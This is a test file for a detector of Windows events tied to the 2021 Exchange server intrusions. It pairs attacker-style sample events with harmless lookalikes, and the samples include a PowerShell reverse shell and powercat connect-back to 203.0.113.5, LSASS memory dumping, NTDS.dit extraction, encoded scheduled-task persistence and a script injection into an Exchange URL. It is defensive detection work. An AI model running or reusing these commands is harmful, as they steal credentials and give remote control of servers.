import { describe, expect, test } from "vitest";

import { loadPack } from "@/lib/campaigns/queries";

import { compileKnowledge, createDetector } from "./detector";

const pack = await loadPack("exchange-2021");
const knowledge = compileKnowledge(pack);

type Fields = Record<string, string>;
type Row = readonly [kind: string, fields: Fields];

function findingsOf(...rows: Row[]) {
  const detector = createDetector(knowledge, { sourceId: "evidence-1", server: null });
  rows.forEach(([kind, fields], index) =>
    detector.record(
      { kind, fields, at: Date.parse("2021-03-03T06:49:00Z"), line: index + 1, offset: index * 100, length: 100 },
      () => "",
    ),
  );
  return detector.result().findings.filter(({ ruleName }) => ruleName.startsWith("windows-"));
}

const rulesOf = (...rows: Row[]) => findingsOf(...rows).map(({ ruleName }) => ruleName);

const w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
const system32 = "C:\\Windows\\System32\\";
const frontEnd = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\";
const base: Fields = { Computer: "EX01.contoso.example", Date: "2021-03-03", Level: "4" };

function security(eventId: number, more: Fields): Row {
  return [
    "windows_event",
    {
      ...base,
      Channel: "Security",
      Provider_Name: "Microsoft-Windows-Security-Auditing",
      EventID: String(eventId),
      ...more,
    },
  ];
}

/** Process creation of the Security log, which does not know the command line of the parent. */
function process(image: string, command: string, more: Fields = {}): Row {
  const fields = { Image: image, CommandLine: command, ParentImage: `${system32}cmd.exe`, ...more };
  return ["windows_process", { ...security(4688, fields)[1] }];
}

function sysmon(eventId: number, more: Fields): Row {
  return [
    eventId === 1 ? "windows_process" : "windows_file",
    {
      ...base,
      Channel: "Microsoft-Windows-Sysmon/Operational",
      Provider_Name: "Microsoft-Windows-Sysmon",
      EventID: String(eventId),
      ...more,
    },
  ];
}

const event = (channel: string, provider: string, more: Fields): Row => [
  "windows_event",
  { ...base, Channel: channel, Provider_Name: provider, ...more },
];
const script = (text: string, more: Fields = {}): Row =>
  event("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", {
    EventID: "4104",
    ScriptBlockText: text,
    ...more,
  });
const service = (path: string): Row =>
  event("System", "Service Control Manager", { EventID: "7045", ServiceName: "UpdSvc", ImagePath: path });
const um = (more: Fields): Row =>
  event("Application", "MSExchange Unified Messaging", {
    EventID: "1000",
    Level: "2",
    Data: "System.InvalidCastException: Unable to cast object of type 'X' to type 'Y'.",
    ...more,
  });
const cmdlet = (data: string): Row =>
  event("MSExchange Management", "MSExchange CmdletLogs", { EventID: "1", Data: data });
const umWorker = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe";
const reverseShell =
  "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',443);$s = $c.GetStream();while(($i = $s.Read($b,0,9)) -ne 0){$r = (iex $d);$s.Write($r,0,9)}";
const snapIn = "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-MailboxExportRequest";

/** Rule, a row that has to give it and no other, and near rows that must not. */
const cases: [string, Row, ...Row[]][] = [
  [
    "windows-um-invalid-cast",
    um({}),
    um({ Level: "3" }),
    um({ Data: "System.NullReferenceException" }),
    event("Application", "MSExchange ADAccess", { Level: "2", Data: "System.InvalidCastException" }),
  ],
  [
    "windows-wer-ecp-crash",
    event("Application", "Windows Error Reporting", {
      EventID: "1001",
      Data: "E12IIS\nc-RTL-AMD64\n15.02.0792.010\nw3wp#MSExchangeECPAppPool\nM.Exchange.Management",
    }),
    event("Application", "Windows Error Reporting", { EventID: "1001", Data: "E12IIS\nw3wp#MSExchangeOWAAppPool" }),
  ],
  [
    "windows-um-child-process",
    process(`${system32}notepad.exe`, "notepad", { ParentImage: umWorker }),
    process(`${system32}WerFault.exe`, "WerFault -u", { ParentImage: umWorker }),
    process(`${system32}wermgr.exe`, "wermgr", { ParentImage: umWorker }),
  ],
  [
    "windows-um-file-written",
    sysmon(11, { Image: umWorker, TargetFilename: "C:\\Windows\\Temp\\x.dll" }),
    sysmon(11, { Image: umWorker, TargetFilename: "C:\\Temp\\UMTempFiles\\CacheCleanup.bin" }),
    sysmon(11, { Image: umWorker, TargetFilename: "C:\\Logging\\UM\\trace.LOG" }),
    sysmon(11, { Image: "C:\\x\\Other.exe", TargetFilename: "C:\\Windows\\Temp\\x.dll" }),
  ],
  [
    "windows-w3wp-shell",
    process(`${system32}cmd.exe`, "cmd /c whoami", { ParentImage: w3wp }),
    process("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "csc /noconfig", { ParentImage: w3wp }),
    process(`${system32}WerFault.exe`, "WerFault", { ParentImage: w3wp }),
    process(`${system32}cmd.exe`, "cmd", { ParentImage: "C:\\Windows\\explorer.exe" }),
    sysmon(1, { Image: `${system32}cmd.exe`, ParentImage: w3wp, ParentCommandLine: 'w3wp.exe -ap "Intranet"' }),
  ],
  [
    "windows-webshell-markers",
    process(`${system32}cmd.exe`, 'cmd /c cd /d "C:\\inetpub\\wwwroot"&whoami&echo [S]&cd&echo [E]', {
      ParentImage: w3wp,
    }),
    process(`${system32}cmd.exe`, "cmd /c echo [S] start", { ParentImage: "C:\\Windows\\explorer.exe" }),
  ],
  [
    "windows-exchange-snapin",
    process(`${system32}powershell.exe`, `powershell -c "${snapIn}"`),
    process(`${system32}powershell.exe`, "powershell Add-PSSnapin VMware.VimAutomation.Core"),
    script(snapIn, { Path: "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Scripts\\x.ps1" }),
    script("Get-PSSnapin Microsoft.Exchange.Management.PowerShell.E2010"),
  ],
  ["windows-exchange-snapin", script(snapIn, { Path: "C:\\Temp\\a.ps1" })],
  [
    "windows-tcp-shell",
    script(reverseShell),
    script("(New-Object Net.Sockets.TCPClient).Connect('ex01', 443)"),
    script("$s = (New-Object Net.Sockets.TCPClient('ex01', 25)).GetStream(); $s.Write($b,0,4)"),
  ],
  ["windows-tcp-shell", process(`${system32}powershell.exe`, `powershell -nop -c "${reverseShell}"`)],
  [
    "windows-powercat",
    process(`${system32}powershell.exe`, "powershell IEX(powercat.ps1); powercat -c 203.0.113.5 -p 443 -e cmd"),
    process("C:\\Tools\\powercatalog.exe", "powercatalog -c x"),
  ],
  [
    "windows-lsass-dump",
    process("C:\\Temp\\procdump64.exe", "procdump64 -accepteula -ma lsass.exe C:\\windows\\temp\\lsass"),
    process("C:\\Temp\\procdump64.exe", "procdump64 -ma w3wp.exe C:\\dumps"),
    process(`${system32}rundll32.exe`, "rundll32 comsvcs.dll,CoCreateActivity"),
    process(`${system32}tasklist.exe`, "tasklist /fi imagename eq lsass.exe "),
  ],
  [
    "windows-lsass-dump",
    process(`${system32}rundll32.exe`, "rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 604 C:\\x.dmp full"),
  ],
  ["windows-lsass-dump", process("C:\\Temp\\a.exe", "a.exe /ma lsass.exe C:\\x.dmp")],
  [
    "windows-lsass-dump-file",
    sysmon(11, { Image: "C:\\Temp\\a.exe", TargetFilename: "C:\\Windows\\Temp\\lsass.exe_210303.dmp" }),
    sysmon(11, { Image: "C:\\Temp\\a.exe", TargetFilename: "C:\\Windows\\Temp\\w3wp.dmp" }),
  ],
  [
    "windows-ntds-copy",
    process(
      `${system32}cmd.exe`,
      "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\x",
    ),
    process(`${system32}vssadmin.exe`, "vssadmin list shadows"),
  ],
  ["windows-ntds-copy", process(`${system32}ntdsutil.exe`, 'ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q')],
  [
    "windows-data-packed",
    process("C:\\ProgramData\\7z.exe", "7z a C:\\ProgramData\\pst.7z C:\\ProgramData\\pst"),
    process("C:\\Program Files\\7-Zip\\7z.exe", "7z a D:\\Backup\\logs.7z D:\\Logs"),
    process(`${system32}makecab.exe`, "makecab C:\\Windows\\Logs\\CBS\\x.log C:\\Windows\\Logs\\CBS\\x.cab"),
  ],
  [
    "windows-data-packed",
    process(`${system32}makecab.exe`, "makecab C:\\inetpub\\wwwroot\\x.dmp C:\\inetpub\\wwwroot\\x.dmp.zip"),
  ],
  [
    "windows-page-hidden",
    process(`${system32}attrib.exe`, "attrib +h +s +r C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx"),
    process(`${system32}attrib.exe`, "attrib -r C:\\inetpub\\wwwroot\\x.aspx"),
    process(`${system32}attrib.exe`, "attrib +h C:\\Users\\x\\desktop.ini"),
  ],
  [
    "windows-task-known",
    process(
      `${system32}schtasks.exe`,
      'schtasks /create /ru system /sc MINUTE /mo 45 /tn "Winnet" /tr "powershell -ep bypass -e SQBF"',
    ),
    process(`${system32}schtasks.exe`, "schtasks /query /tn WinnetCheck"),
  ],
  [
    "windows-task-known",
    event("Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", {
      EventID: "106",
      TaskName: "\\Winnet",
    }),
    event("Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", {
      EventID: "106",
      TaskName: "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag",
    }),
  ],
  [
    "windows-task-suspicious",
    security(4698, { TaskName: "\\Upd", TaskContent: "<Command>powershell</Command><Arguments>-enc SQBF</Arguments>" }),
    security(4698, { TaskName: "\\GoogleUpdate", TaskContent: "<Command>C:\\Program Files\\Google\\u.exe</Command>" }),
  ],
  [
    "windows-exchange-admins-removed",
    process(`${system32}net.exe`, 'net group "Exchange Organization administrators" administrator /del /domain'),
    process(`${system32}net.exe`, 'net group "Exchange Organization administrators" /domain'),
    process(`${system32}net.exe`, 'net group "Domain Users" x /del /domain'),
  ],
  [
    "windows-page-written",
    sysmon(11, { Image: w3wp, TargetFilename: `${frontEnd}owa\\auth\\x.aspx` }),
    sysmon(11, {
      Image: w3wp,
      TargetFilename: "C:\\Windows\\Microsoft.NET\\Framework64\\Temporary ASP.NET Files\\a.aspx",
    }),
    sysmon(11, { Image: `${system32}msiexec.exe`, TargetFilename: `${frontEnd}owa\\auth\\logon.aspx` }),
    sysmon(11, { Image: w3wp, TargetFilename: "C:\\inetpub\\logs\\x.log" }),
    sysmon(23, { Image: w3wp, TargetFilename: "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx" }),
  ],
  [
    "windows-page-written",
    sysmon(11, { Image: umWorker, TargetFilename: "C:\\inetpub\\wwwroot\\aspnet_client\\x.ashx" }),
  ],
  [
    "windows-log-cleared",
    event("Security", "Microsoft-Windows-Eventlog", { EventID: "1102", SubjectUserName: "adm" }),
    event("Application", "Some-Vendor", { EventID: "1102" }),
    event("System", "Microsoft-Windows-WindowsUpdateClient", { EventID: "104" }),
  ],
  [
    "windows-log-cleared",
    event("System", "Microsoft-Windows-Eventlog", { EventID: "104", EventData_Channel: "Application" }),
  ],
  [
    "windows-service-suspicious",
    service("C:\\Windows\\Temp\\upd.exe"),
    service("C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{1}\\MpKslDrv.sys"),
    service('"C:\\Program Files\\Vendor\\agent.exe" --service'),
    service("C:\\Windows\\system32\\svchost.exe -k netsvcs"),
  ],
  ["windows-service-suspicious", security(4697, { ServiceName: "x", ServiceFileName: "powershell -enc SQBF" })],
  [
    "windows-remote-execution",
    service("%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"),
    service("C:\\Windows\\PSEXESVC.exe"),
  ],
  [
    "windows-remote-execution",
    process(`${system32}cmd.exe`, "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1614754.12 2>&1"),
    process(`${system32}cmd.exe`, "cmd /c dir \\\\fs01\\C$\\Users"),
  ],
  [
    "windows-account-created",
    security(4720, { TargetUserName: "support7" }),
    security(4720, { TargetUserName: "HealthMailbox83d6781" }),
    security(4720, { TargetUserName: "support7", Date: "2024-05-01" }),
    security(4738, { TargetUserName: "support7" }),
  ],
  [
    "windows-group-privileged",
    security(4728, { TargetUserName: "Domänen-Admins", TargetSid: "S-1-5-21-1-2-3-512" }),
    security(4732, { TargetUserName: "Users", TargetSid: "S-1-5-32-545" }),
    security(4728, { TargetUserName: "Domain Admins", TargetSid: "S-1-5-21-1-2-3-512", Date: "2020-06-01" }),
    security(4729, { TargetUserName: "Domain Admins", TargetSid: "S-1-5-21-1-2-3-512" }),
  ],
  ["windows-group-privileged", security(4756, { TargetUserName: "Organization Management" })],
  [
    "windows-dcsync",
    security(4662, { SubjectUserName: "svc-mail", Properties: "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}" }),
    security(4662, { SubjectUserName: "DC01$", Properties: "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}" }),
    security(4662, { SubjectUserName: "MSOL_0123456789ab", Properties: "{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}" }),
    security(4662, { SubjectUserName: "svc-mail", Properties: "{bf967aba-0de6-11d0-a285-00aa003049e2}" }),
  ],
  [
    "windows-oabvdir-script",
    cmdlet(
      'Set-OabVirtualDirectory\n-ExternalUrl "http://f/<script language=JScript runat=server>x</script>" -Identity "EX01\\OAB"',
    ),
    cmdlet('Set-OabVirtualDirectory\n-ExternalUrl "https://mail.contoso.example/OAB" -Identity "EX01\\OAB"'),
    cmdlet("Set-TransportRule\n-HtmlDisclaimer <script>x</script>"),
    event("Application", "MSExchange Front End", { Data: "OabVirtualDirectory -ExternalUrl <script" }),
  ],
];

describe.each(cases)("%s", (rule, hit, ...near) => {
  test("is found, and nothing else is said of the row", () => {
    expect(rulesOf(hit)).toEqual([rule]);
  });

  if (near.length > 0)
    test("is not found in what only looks like it", () => {
      for (const row of near) expect([row[1], rulesOf(row)]).toEqual([row[1], expect.not.arrayContaining([rule])]);
    });
});

describe("the rules over Windows events", () => {
  test("each have a row here that they find", () => {
    const own = pack.rules.map(({ name }) => name).filter((name) => name.startsWith("windows-"));
    expect(new Set(cases.map(([rule]) => rule))).toEqual(new Set(own));
  });

  test("propose credential theft or lateral movement only where that is what they show", () => {
    const spread = pack.rules.filter(
      ({ name, breakwater }) => name.startsWith("windows-") && breakwater.proposes === "spread",
    );
    expect(spread.map(({ name }) => name).toSorted()).toEqual([
      "windows-dcsync",
      "windows-lsass-dump",
      "windows-lsass-dump-file",
      "windows-ntds-copy",
      "windows-remote-execution",
    ]);
  });

  test("say of which server, program and account a finding is", () => {
    const [finding] = findingsOf(
      process(`${system32}cmd.exe`, "cmd /c whoami", { ParentImage: w3wp, SubjectUserName: "EX01$" }),
    );
    expect(finding).toMatchObject({
      server: "EX01.contoso.example",
      entity: `${system32}cmd.exe`,
      proposes: "operated",
      entities: { accounts: { values: ["EX01$"] } },
    });
    expect(finding?.samples[0]?.why.map(({ field }) => field)).toEqual(["ParentImage", "ParentCommandLine", "Image"]);
  });

  test("stand beside the indicators, which see connections, names, hashes and commands in events as well", () => {
    const detector = createDetector(knowledge, { sourceId: "evidence-1", server: null });
    const rows: Row[] = [
      event("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", {
        EventID: "3",
        DestinationIp: "165.232.154.116",
      }),
      event("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", {
        EventID: "22",
        QueryName: "p.estonine.com",
      }),
      process(`${system32}cmd.exe`, "cmd /c x C:\\ProgramData\\it.zip"),
      sysmon(11, { Image: "x", TargetFilename: "C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx" }),
    ];
    rows.forEach(([kind, fields], line) =>
      detector.record({ kind, fields, at: null, line, offset: 0, length: 0 }, () => ""),
    );
    expect(new Set(detector.result().sightings.map(({ type }) => type))).toEqual(
      new Set(["ipv4", "domain", "commandline_contains", "filepath", "filepath_regex"]),
    );
  });

  test("are quiet on an ordinary day of an Exchange server", () => {
    const ordinary: Row[] = [
      process(`${system32}svchost.exe`, "svchost -k netsvcs", { ParentImage: `${system32}services.exe` }),
      process(`${system32}cmd.exe`, "cmd /c backup.cmd", { ParentImage: `${system32}svchost.exe` }),
      process(`${system32}schtasks.exe`, "schtasks /run /tn Backup"),
      process(`${system32}net.exe`, "net use Z: \\\\fs01\\share"),
      process(`${system32}inetsrv\\w3wp.exe`, 'w3wp -ap "MSExchangeOWAAppPool"', {
        ParentImage: `${system32}svchost.exe`,
      }),
      security(4624, { TargetUserName: "HealthMailbox83d6781", LogonType: "3", IpAddress: "192.0.2.10" }),
      security(4662, { SubjectUserName: "EX01$", Properties: "{bf967aba-0de6-11d0-a285-00aa003049e2}" }),
      security(4698, {
        TaskName: "\\Microsoft\\Windows\\UpdateOrchestrator\\Reboot",
        TaskContent: "<Command>usoclient</Command>",
      }),
      event("Application", "MSExchange Common", {
        EventID: "4999",
        Level: "2",
        Data: "Watson report: w3wp#MSExchangeRpcProxyAppPool",
      }),
      event("System", "Service Control Manager", {
        EventID: "7036",
        Data: "The Windows Update service entered the running state",
      }),
      cmdlet("Get-Mailbox\n-Identity user1"),
      script("Get-Service MSExchange* | Restart-Service"),
      sysmon(11, {
        Image: w3wp,
        TargetFilename: "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\x.dll",
      }),
    ];
    expect(rulesOf(...ordinary)).toEqual([]);
  });
});
